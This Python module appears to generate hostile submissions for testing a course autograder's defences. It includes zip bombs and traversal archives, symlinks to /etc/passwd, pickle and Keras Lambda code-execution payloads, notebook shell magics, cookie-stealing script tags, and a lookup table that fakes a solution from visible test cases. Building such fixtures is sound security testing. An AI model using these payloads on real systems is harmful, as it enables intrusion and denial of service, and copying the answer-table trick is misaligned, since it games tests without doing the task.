"""Makes the submissions that are no text: archives, links, notebooks, models.

Each function is ``name(folder, places) -> what to hand in``.

``folder`` is empty and theirs alone; ``places`` is what an attacker knows of the host (``Arena.places``).
"""

from __future__ import annotations

import base64
import importlib.util
import io
import json
import os
import pickle
import random
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import Any

import h5py
import numpy as np

ROOT = Path(__file__).parents[2]
CONV = "03_convolution"
EVIL = "<script>alert(1)</script>\x1b[31m\u202e::error::x ##[error]y"
#: Fails loudly wherever somebody runs it.
TRAP = "open('/tmp/hostile-mark-trap', 'w').write('ran')\nraise SystemExit('trap')\n"

Places = dict[str, Any]


def solution(slug: str) -> str:
    """The honest answer of an exercise."""
    return (ROOT / "solutions" / slug / f"{slug.partition('_')[2]}.py").read_text(encoding="utf-8")


def module(path: Path) -> ModuleType:
    """A trusted file of the course as a module."""
    spec = importlib.util.spec_from_file_location(path.stem, path)
    assert spec is not None
    assert spec.loader is not None
    loaded = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(loaded)
    return loaded


def honest(folder: Path, places: Places) -> Path:
    (folder / "convolution.py").write_text(solution(CONV), encoding="utf-8")
    return folder


# --- text ---------------------------------------------------------------------------------------------------


def evil_names(folder: Path, places: Places) -> Path:
    place = folder / "\x1b[31m\u202e<img src=x onerror=alert(1)> ::error::x ##[error]y`|"
    names = ["<script>alert(1)<%2Fscript>.py", "a\x1b[2Jb.py", "::set-output name=x::y.py", "##[error]z/x.txt"]
    return _zip(
        place.with_suffix(".zip"),
        {"[x](http)/\u202e/convolution.py": solution(CONV), **dict.fromkeys(names, TRAP)},
        {"convolution\x1b[31m.py": TRAP, "Convolution.py": TRAP, "<b>convolution.py": TRAP},
    )


def nul_in_source(folder: Path, places: Places) -> Path:
    (folder / "convolution.py").write_bytes(solution(CONV).encode() + b"\n# \0\0\0 " + EVIL.encode() + b"\n")
    return folder


def bidi_in_source(folder: Path, places: Places) -> Path:
    line = f"access = 'user\u202e \u2066# check\u2069 \u2066 {EVIL} ("
    (folder / "convolution.py").write_text(f"{solution(CONV)}\n{line}\n", encoding="utf-8")
    return folder


def compiler_bomb(folder: Path, places: Places) -> Path:
    deep = "(" * 90_000 + ")" * 90_000
    unary = "-" * 900_000 + "1"
    (folder / "convolution.py").write_text(f"x = {unary}\ny = {deep}\nz = {'a.' * 300_000}a\n")
    return folder


def hard_coded(folder: Path, places: Places) -> Path:
    """Every case that students can see, by the bytes of its arguments."""
    course = ROOT / "exercises" / CONV
    right, inputs = module(ROOT / "solutions" / CONV / "convolution.py"), module(course / "inputs.py").make(0)
    probe = module(course / "probe.py")
    cases: dict[str, dict[str, Any]] = {}
    for name, array in inputs.items():
        case, _, argument = name.rpartition(".")
        cases.setdefault(case, {})[argument] = probe.decode(argument, array)
    table = {}
    for case, arguments in cases.items():
        function = case.partition(".")[0]
        given = [arguments.pop(name) for name in probe.POSITIONAL[function]]
        answer = np.asarray(getattr(right, function)(*given, **arguments))
        table[(function, repr(given), repr(sorted(arguments.items())))] = answer.tolist()
    lookup = f"""
import numpy as np
TABLE = {table!r}
def _known(function):
    def answer(*given, **named):
        return TABLE.get((function, repr(list(given)), repr(sorted(named.items()))), [[0.0]])
    return answer
conv2d, max_pool2d = _known("conv2d"), _known("max_pool2d")
conv_output_shape, conv_parameter_count = _known("conv_output_shape"), _known("conv_parameter_count")
"""
    (folder / "convolution.py").write_text(lookup)
    return folder


# --- files beside the work ----------------------------------------------------------------------------------


def shadowing_files(folder: Path, places: Places) -> Path:
    honest(folder, places)
    names = (
        "keras.py",
        "numpy.py",
        "json.py",
        "h5py.py",
        "pytest.py",
        "grader.py",
        "conftest.py",
        "sitecustomize.py",
    )
    for name in (*names, "usercustomize.py", "__init__.py", "setup.py", "noxfile.py", "probe.py", "inputs.py"):
        (folder / name).write_text(TRAP)
    for package in ("numpy", "keras", "grader", "tensorflow", ".pytest_cache", "__pycache__"):
        (folder / package).mkdir()
        (folder / package / "__init__.py").write_text(TRAP)
    (folder / "evil.pth").write_text("import os; os.system('touch /tmp/hostile-mark-pth')\n")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest --collect-only\n")
    (folder / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '-p evil'\n")
    (folder / "tox.ini").write_text("[pytest]\naddopts = --co\n")
    (folder / ".env").write_text("PYTHONSTARTUP=evil.py\n")
    (folder / "__pycache__" / "convolution.cpython-311.pyc").write_bytes(b"poison")
    return folder


def own_course_files(folder: Path, places: Places) -> Path:
    stub = (ROOT / "exercises" / CONV / "convolution.py").read_text(encoding="utf-8")
    for place in (folder, folder / CONV, folder / "exercises" / CONV, folder / "reference" / CONV):
        place.mkdir(parents=True, exist_ok=True)
        (place / "exercise.toml").write_text('file = "convolution"\npoints = 1000\nfunctions = ["conv2d"]\n')
        (place / "checks.py").write_text("def test_all(facts):\n    assert True\n")
        (place / "reference.json").write_text("{}")
        (place / "probe.py").write_text("def probe(student, inputs, evidence):\n    pass\n")
    (folder / CONV / "convolution.py").write_text(stub, encoding="utf-8")
    return folder


# --- archives -----------------------------------------------------------------------------------------------


def _zip(path: Path, *parts: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in parts:
            for name, data in part.items():
                archive.writestr(name, data)
    return path


def zip_bomb(folder: Path, places: Places) -> Path:
    return _zip(folder / "student.zip", {"convolution.py": b"\n" * (100 << 20)})


def zip_lies(folder: Path, places: Places) -> Path:
    path = _zip(folder / "student.zip", {"convolution.py": solution(CONV).encode() + b"\n" * (50 << 20)})
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        data[at + offset : at + offset + 4] = struct.pack("<L", 1)
    path.write_bytes(data)
    return path


def zip_traversal(folder: Path, places: Places) -> Path:
    names = (
        "../../../../../../tmp/hostile-mark-traversal.py",
        "/tmp/hostile-mark-absolute.py",
        "..\\..\\hostile-mark-windows.py",
        "C:\\hostile-mark-drive.py",
        "a/../../../hostile-mark-middle.py",
        "../convolution.py",
        "/convolution.py",
        "~/hostile-mark-home.py",
    )
    return _zip(folder / "student.zip", dict.fromkeys(names, TRAP), {"work/convolution.py": solution(CONV)})


def zip_links(folder: Path, places: Places) -> Path:
    path = folder / "student.zip"
    with zipfile.ZipFile(path, "w") as archive:
        info = zipfile.ZipInfo("convolution.py")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, places["home"])
    return path


def zip_many(folder: Path, places: Places) -> Path:
    path = folder / "student.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(70_000):
            archive.writestr(zipfile.ZipInfo(f"{number}/convolution.py"), b"")
    return path


def zip_overlapping(folder: Path, places: Places) -> Path:
    """Every entry of the directory names the same local header."""
    path = _zip(folder / "student.zip", {"convolution.py": b"x = 1\n" * 100_000})
    data = path.read_bytes()
    start, end = data.find(b"PK\x01\x02"), data.find(b"PK\x05\x06")
    entry = data[start:end]
    names = [f"{n:02}/convolution.py".encode() for n in range(100)]
    many = b"".join(entry[:28] + struct.pack("<H", len(n)) + entry[30:46] + n for n in [b"convolution.py", *names])
    tail = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 101, 101, len(many), start, 0)
    path.write_bytes(data[:start] + many + tail)
    return path


def zip_twice(folder: Path, places: Places) -> Path:
    path = folder / "student.zip"
    with zipfile.ZipFile(path, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a name that is there twice
        archive.writestr("convolution.py", solution(CONV))
        archive.writestr("convolution.py", "def conv2d(*a, **k): return 0\n")
    return path


def zip_truncated(folder: Path, places: Places) -> Path:
    path = _zip(folder / "student.zip", {"convolution.py": solution(CONV), "other.txt": os.urandom(4096)})
    path.write_bytes(path.read_bytes()[:-1500])
    return path


# --- folders ------------------------------------------------------------------------------------------------


def folder_links(folder: Path, places: Places) -> Path:
    (folder / "convolution.py").symlink_to(places["home"])
    (folder / "convolution.ipynb").symlink_to(places["tmp"])
    (folder / "cifar10_cnn.keras").symlink_to("/etc/passwd")
    return folder


def folder_fifo(folder: Path, places: Places) -> Path:
    os.mkfifo(folder / "convolution.py")
    return folder


def folder_huge(folder: Path, places: Places) -> Path:
    with (folder / "convolution.py").open("wb") as file:
        os.truncate(file.fileno(), 1 << 40)
    return folder


def folder_maze(folder: Path, places: Places) -> Path:
    honest(folder, places)
    (folder / "again").symlink_to(folder)
    (folder / "up").symlink_to(folder.parent)
    (folder / "root").symlink_to("/")
    deep = folder
    for _ in range(60):
        deep = deep / "d"
        deep.mkdir()
    many = folder / "many"
    many.mkdir()
    for number in range(10_000):
        (many / f"{number}.txt").touch()
    os.mkfifo(folder / "pipe.py")
    return folder


# --- notebooks ----------------------------------------------------------------------------------------------


def _notebook(folder: Path, cells: list[str], **extra: Any) -> Path:
    found = [
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [], "source": cell, **extra}
        for cell in cells
    ]
    value = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": found}
    (folder / "convolution.ipynb").write_text(json.dumps(value), encoding="utf-8")
    return folder


def notebook_magics(folder: Path, places: Places) -> Path:
    shell = "touch /tmp/hostile-mark-magic"
    cells = [
        f"!{shell}",
        f"%%bash\n{shell}",
        f"%%script sh\n{shell}",
        f"%system {shell}\n%sx {shell}\n!!{shell}\nfiles = !ls /",
        "%load_ext evil\n%run evil.py\n%cd /\n%env PYTHONPATH=/tmp\n%pip install evil\n%autoreload 2",
        f"get_ipython().system({shell!r})\nget_ipython().run_cell_magic('bash', '', {shell!r})",
        "get_ipython().magic('x')",
        f"%%writefile /tmp/hostile-mark-writefile\n{TRAP}",
        "%%javascript\nalert(1)",
        "?open\nopen??",
        solution(CONV),
    ]
    return _notebook(folder, cells)


def notebook_outputs(folder: Path, places: Places) -> Path:
    script = "<script>fetch('http://127.0.0.1/' + document.cookie)</script>" * 1000
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": script, "text/plain": EVIL}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)" * 10_000}},
        {"output_type": "stream", "name": "stdout", "text": "\x1b[2J" * 100_000},
        {"output_type": "error", "ename": EVIL, "evalue": EVIL, "traceback": [EVIL] * 1000},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"image/png": base64.b64encode(bytes(5 << 20)).decode()},
        },
    ]
    attachments = {"../../evil.png": {"image/png": "x"}}
    return _notebook(folder, [solution(CONV)], outputs=outputs, attachments=attachments, **{EVIL: EVIL})


def notebook_blank_lines(folder: Path, places: Places) -> Path:
    return _notebook(folder, ["def conv2d(*given): return 0\n" + "\n" * 9_900_000])


def notebook_nested(folder: Path, places: Places) -> Path:
    (folder / "convolution.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    return folder


def notebook_old(folder: Path, places: Places) -> Path:
    cells: list[Any] = [{"cell_type": "code", "input": 3, "outputs": 4}, None, 5, {"cell_type": {}}, [[]]]
    value = {"nbformat": 2, "worksheets": [{"cells": cells}, {"cells": {"a": 1}}, 7], "metadata": {"name": EVIL}}
    (folder / "convolution.ipynb").write_text(json.dumps(value))
    return folder


# --- models -------------------------------------------------------------------------------------------------


def _given() -> dict[str, bytes]:
    with zipfile.ZipFile(ROOT / "exercises" / "09_save_load" / "given.keras") as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _keras(folder: Path, parts: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> Path:
    """``parts`` as the file that exercise 06 takes."""
    with zipfile.ZipFile(folder / "cifar10_cnn.keras", "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return folder


def _with_config(folder: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    parts = _given()
    config = json.loads(parts["config.json"])
    change(config)
    return _keras(folder, {**parts, "config.json": json.dumps(config).encode()})


def model_surrogate(folder: Path, places: Places) -> Path:
    return _with_config(folder, lambda config: config["config"]["layers"][-1]["config"].update(name="half \ud800"))


def _with_weights(folder: Path, change: Callable[[h5py.File], None]) -> Path:
    parts = _given()
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        change(file)
    return _keras(folder, {**parts, "model.weights.h5": buffer.getvalue()}, zipfile.ZIP_DEFLATED)


def _replace_layer(folder: Path, entry: dict[str, Any]) -> Path:
    def change(config: dict[str, Any]) -> None:
        config["config"]["layers"].insert(1, entry)

    return _with_config(folder, change)


def model_lambda(folder: Path, places: Places) -> Path:
    import marshal

    code = marshal.dumps(compile("lambda x: open('/tmp/hostile-mark-lambda', 'w')", "x", "eval"))
    function = {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(), "defaults": None}}
    entry = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": function}}
    return _replace_layer(folder, {**entry, "registered_name": None, "build_config": None})


def model_gadget(folder: Path, places: Places) -> Path:
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    config = {
        "name": "l",
        "function": function,
        "arguments": {"origin": f"http://127.0.0.1:{places['tcp']}/x", "fname": "/tmp/hostile-mark-gadget"},
    }
    return _replace_layer(folder, {"module": "keras.layers", "class_name": "Lambda", "config": config})


def model_foreign_module(folder: Path, places: Places) -> Path:
    (folder / "keras_nlp.py").write_text(TRAP)
    (folder / "keras_hub.py").write_text(TRAP)
    config = {"name": "l"}
    return _replace_layer(folder, {"module": "keras_nlp.layers", "class_name": "Evil", "config": config})


def model_weights_bomb(folder: Path, places: Places) -> Path:
    def change(file: h5py.File) -> None:
        group = next(group for group in file["layers"].values() if "0" in group.get("vars", {}))
        del group["vars"]["0"]
        shape = (1 << 20, 1 << 10)
        group["vars"].create_dataset("0", shape, "float32", chunks=(1 << 10, 1 << 10), compression="gzip")

    return _with_weights(folder, change)


def model_huge_layers(folder: Path, places: Places) -> Path:
    def change(config: dict[str, Any]) -> None:
        layers = config["config"]["layers"]
        dense = next(layer for layer in layers if layer["class_name"] == "Dense")
        dense["config"]["units"] = 1 << 40
        layers[-1:-1] = [
            {**dense, "config": {**dense["config"], "name": f"extra_{n}", "units": 1 << 20}} for n in range(1000)
        ]

    return _with_config(folder, change)


def model_external_file(folder: Path, places: Places) -> Path:
    def change(file: h5py.File) -> None:
        group = next(group for group in file["layers"].values() if "0" in group.get("vars", {}))
        shape = group["vars"]["0"].shape
        del group["vars"]["0"]
        size = 4 * int(np.prod(shape))
        group["vars"].create_dataset("0", shape, "float32", external=[(places["home"], 0, size)])
        group["vars"]["1_external"] = h5py.ExternalLink(places["tmp"], "/x")

    return _with_weights(folder, change)


def model_extra_members(folder: Path, places: Places) -> Path:
    evil = {
        "assets/big.bin": bytes(64 << 20),
        "../../../../tmp/hostile-mark-model": b"x",
        "/tmp/hostile-mark-model-absolute": b"x",
        "variables.pkl": pickle.dumps(_Payload()),
    }
    return _keras(folder, {**_given(), **evil}, zipfile.ZIP_DEFLATED)


class _Payload:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("touch /tmp/hostile-mark-model-pickle",)


def model_pickle(folder: Path, places: Places) -> Path:
    (folder / "cifar10_cnn.keras").write_bytes(pickle.dumps(_Payload()))
    return folder


def model_nested_config(folder: Path, places: Places) -> Path:
    return _keras(folder, {**_given(), "config.json": b'{"config": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"})


def model_other_formats(folder: Path, places: Places) -> Path:
    for name in ("cifar10_cnn.h5", "cifar10_cnn.pkl", "cifar10_cnn.joblib", "cifar10_cnn.pt", "cifar10_cnn.hdf5"):
        (folder / name).write_bytes(pickle.dumps(_Payload()))
    saved = folder / "cifar10_cnn"
    saved.mkdir()
    (saved / "saved_model.pb").write_bytes(random.Random(0).randbytes(1000))
    return folder


def models_from_the_run(folder: Path, places: Places) -> Path:
    """The run writes three bad files where the probe expects the models of exercise 09."""
    bad = []
    for make in (model_lambda, model_weights_bomb, model_pickle):
        place = folder / make.__name__
        place.mkdir()
        bad.append(base64.b64encode((make(place, places) / "cifar10_cnn.keras").read_bytes()).decode())
    (folder / "save_load.py").write_text(
        f"""import base64, os
BAD = {bad!r}
def save_model(model, path):
    with open(path, "wb") as file:
        file.write(base64.b64decode(BAD[0]))
for name, data in zip(("saved", "restored", "resumed", "hidden_saved", "given", "continued"), BAD * 2):
    with open(f"/box/out/{{name}}.keras", "wb") as file:
        file.write(base64.b64decode(data))
def restore_model(path): raise ValueError
def same_model(a, b): return True
def resume_training(path, x, y, epochs): os._exit(87)
"""
    )
    return folder
